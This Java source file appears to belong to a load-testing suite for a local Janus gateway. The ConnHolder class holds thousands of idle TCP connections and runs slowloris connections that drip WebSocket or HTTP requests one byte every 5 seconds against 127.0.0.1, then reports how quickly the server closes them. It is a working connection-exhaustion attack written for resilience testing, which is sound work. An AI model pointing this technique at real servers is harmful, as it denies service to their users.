package org.janussfu.loadtest.abuse;

import com.fasterxml.jackson.databind.node.ObjectNode;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * Holds TCP connections for {@link IdleConnAttack} in a process of its own (one process may hold no more sockets
 * than its file-descriptor limit, so the attack spreads 20,000 over a few of these): {@code idle} connections
 * (alternately to the WebSocket and the HTTP port) that never send a byte, and {@code slow} slowloris connections
 * that send, one byte every 5 s, a WebSocket upgrade request, HTTP request headers, or the body of a POST whose
 * headers were complete. All live on one NIO selector for {@code hold} ms; one the server closes (EOF or reset) is
 * counted with the seconds it lived. Then it prints {@code HELD <json>} and keeps every connection open until its
 * stdin closes (the attacker leaving). Main thread only.
 */
public final class ConnHolder {
    static final int RESERVE_FDS = 1500;
    private static final int MAX_PENDING = 512;
    private static final int CONNECT_TIMEOUT_MS = 5000;
    private static final String[] KINDS = {"slow-ws-upgrade", "slow-http-headers", "slow-http-body"};

    /** What is known about one connection (the selection key's attachment). */
    private static final class Conn {
        final String kind;
        final long openedAt;
        final byte[] script;
        int sent;
        boolean connected;
        long closedAfterMs = -1;

        Conn(String kind, byte[] script) {
            this.kind = kind;
            this.script = script;
            this.openedAt = System.currentTimeMillis();
        }
    }

    private final List<SocketChannel> channels = new ArrayList<>();
    private Selector selector;

    public static void main(String[] args) throws Exception {
        int ws = Integer.parseInt(args[0]);
        int http = Integer.parseInt(args[1]);
        int idle = Integer.parseInt(args[2]);
        int slow = Integer.parseInt(args[3]);
        long hold = Long.parseLong(args[4]);
        long connectMs = Long.parseLong(args[5]);
        ConnHolder h = new ConnHolder();
        ObjectNode out = JanusCalls.JSON.createObjectNode();
        try {
            h.hold(ws, http, idle, slow, hold, connectMs, out);
        } catch (Exception e) {
            out.put("error", Report.clip(e.toString(), 200));
        }
        System.out.println("HELD " + out);
        System.out.flush();
        System.in.readAllBytes(); // until the attacker leaves
        h.leave();
        System.exit(0);
    }

    static long ownFdLimit() {
        try {
            for (String l : Files.readAllLines(Path.of("/proc/self/limits"))) {
                if (l.startsWith("Max open files")) {
                    return Long.parseLong(l.substring(25).trim().split("\\s+")[0]);
                }
            }
        } catch (Exception e) {
            // fall through
        }
        return 1024;
    }

    private static byte[] script(String kind) {
        String s = switch (kind) {
            case "slow-ws-upgrade" -> "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                    + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                    + "Sec-WebSocket-Protocol: janus-protocol\r\n\r\n";
            case "slow-http-headers" -> "POST /janus HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                    + "Content-Length: 2\r\n\r\n{}";
            default -> "{\"janus\":\"create\",\"transaction\":\"slow-body\"}" + " ".repeat(960);
        };
        return s.getBytes(StandardCharsets.US_ASCII);
    }

    void hold(int wsPort, int httpPort, int idle, int slow, long hold, long connectMs, ObjectNode out) throws IOException {
        long limit = ownFdLimit();
        if (idle + slow + RESERVE_FDS > limit) {
            out.put("scaled_down", "fd limit " + limit + ": " + (limit - RESERVE_FDS - slow) + " idle connections instead of " + idle);
            idle = (int) Math.max(0, limit - RESERVE_FDS - slow);
        }
        out.put("idle_target", idle);
        selector = Selector.open();
        long start = System.currentTimeMillis();
        long end = start + hold;
        int slowOpened = 0;
        for (int i = 0; i < slow; i++) {
            String kind = KINDS[i % 3];
            int port = kind.equals("slow-ws-upgrade") ? wsPort : httpPort;
            try {
                SocketChannel ch = SocketChannel.open();
                channels.add(ch);
                ch.socket().connect(new InetSocketAddress("127.0.0.1", port), CONNECT_TIMEOUT_MS);
                ch.configureBlocking(false);
                Conn c = new Conn(kind, script(kind));
                c.connected = true;
                if (kind.equals("slow-http-body")) { // complete headers at once; then the body byte by byte
                    ch.write(ByteBuffer.wrap(("POST /janus HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                            + "Content-Length: " + c.script.length + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII)));
                }
                ch.register(selector, SelectionKey.OP_READ, c);
                slowOpened++;
            } catch (IOException e) {
                out.put("slow_connect_error", Report.clip(e.toString(), 120));
            }
        }
        int opened = 0;
        int pending = 0;
        int failed = 0;
        List<SelectionKey> pendingKeys = new ArrayList<>();
        long nextDrip = System.currentTimeMillis();
        ByteBuffer scratch = ByteBuffer.allocate(4096);
        Map<String, List<Long>> closedAfter = new TreeMap<>();
        long connectPhaseEnd = start + Math.min(hold - 2000, connectMs);
        while (System.currentTimeMillis() < end) {
            long now = System.currentTimeMillis();
            while (opened + pending + failed < idle && pending < MAX_PENDING && now < connectPhaseEnd) {
                int port = (opened + pending + failed) % 2 == 0 ? wsPort : httpPort;
                try {
                    SocketChannel ch = SocketChannel.open();
                    channels.add(ch);
                    ch.configureBlocking(false);
                    Conn c = new Conn(port == wsPort ? "idle-ws" : "idle-http", null);
                    if (ch.connect(new InetSocketAddress("127.0.0.1", port))) {
                        c.connected = true;
                        ch.register(selector, SelectionKey.OP_READ, c);
                        opened++;
                    } else {
                        pendingKeys.add(ch.register(selector, SelectionKey.OP_CONNECT, c));
                        pending++;
                    }
                } catch (IOException e) {
                    failed++;
                    out.put("idle_connect_error", Report.clip(e.toString(), 120));
                    if (e.getMessage() != null && e.getMessage().contains("Too many open files")) {
                        break;
                    }
                }
            }
            selector.select(100);
            for (SelectionKey k : selector.selectedKeys()) {
                Conn c = (Conn) k.attachment();
                SocketChannel ch = (SocketChannel) k.channel();
                try {
                    if (k.isConnectable()) {
                        ch.finishConnect();
                        c.connected = true;
                        pending--;
                        opened++;
                        k.interestOps(SelectionKey.OP_READ);
                    } else if (k.isReadable()) {
                        scratch.clear();
                        if (ch.read(scratch) < 0) {
                            throw new IOException("eof");
                        }
                    }
                } catch (IOException e) {
                    if (!c.connected) {
                        pending--;
                        failed++;
                    } else if (c.closedAfterMs < 0) {
                        c.closedAfterMs = System.currentTimeMillis() - c.openedAt;
                        closedAfter.computeIfAbsent(c.kind, x -> new ArrayList<>()).add(c.closedAfterMs);
                    }
                    k.cancel();
                    closeQuietly(ch);
                }
            }
            selector.selectedKeys().clear();
            // connects that hang (the server's accept queue is full): give up after the timeout
            pendingKeys.removeIf(k -> !k.isValid() || ((Conn) k.attachment()).connected);
            for (SelectionKey k : pendingKeys) {
                Conn c = (Conn) k.attachment();
                if (k.isValid() && !c.connected && now - c.openedAt > CONNECT_TIMEOUT_MS) {
                    k.cancel();
                    closeQuietly((SocketChannel) k.channel());
                    pending--;
                    failed++;
                }
            }
            pendingKeys.removeIf(k -> !k.isValid());
            if (now >= nextDrip) { // slowloris: the next byte of each script, every 5 s
                nextDrip = now + 5000;
                for (SelectionKey k : selector.keys()) {
                    Conn c = (Conn) k.attachment();
                    if (c.script != null && k.isValid() && c.sent < c.script.length && c.closedAfterMs < 0) {
                        try {
                            ((SocketChannel) k.channel()).write(ByteBuffer.wrap(c.script, c.sent, 1));
                            c.sent++;
                        } catch (IOException e) {
                            c.closedAfterMs = now - c.openedAt;
                            closedAfter.computeIfAbsent(c.kind, x -> new ArrayList<>()).add(c.closedAfterMs);
                            k.cancel();
                        }
                    }
                }
            }
        }
        out.put("idle_opened", opened);
        out.put("idle_connect_failed_or_timed_out", failed + pending);
        out.put("slow_opened", slowOpened);
        out.put("held_seconds", (System.currentTimeMillis() - start) / 1000.0);
        ObjectNode closed = out.putObject("closed_by_server");
        for (String kind : new String[] {"idle-ws", "idle-http", "slow-ws-upgrade", "slow-http-headers", "slow-http-body"}) {
            List<Long> t = new ArrayList<>(closedAfter.getOrDefault(kind, List.of()));
            t.sort(null);
            ObjectNode n = closed.putObject(kind);
            n.put("count", t.size());
            n.put("median_s", t.isEmpty() ? -1 : t.get(t.size() / 2) / 1000.0);
            n.put("max_s", t.isEmpty() ? -1 : t.get(t.size() - 1) / 1000.0);
            n.put("within_10s", t.stream().filter(v -> v <= 10_000).count());
        }
    }

    private static void closeQuietly(SocketChannel ch) {
        try {
            ch.close();
        } catch (IOException e) {
            // gone
        }
    }

    void leave() {
        for (SocketChannel ch : channels) {
            closeQuietly(ch);
        }
        channels.clear();
        try {
            if (selector != null) {
                selector.close();
            }
        } catch (IOException e) {
            // gone
        }
    }
}
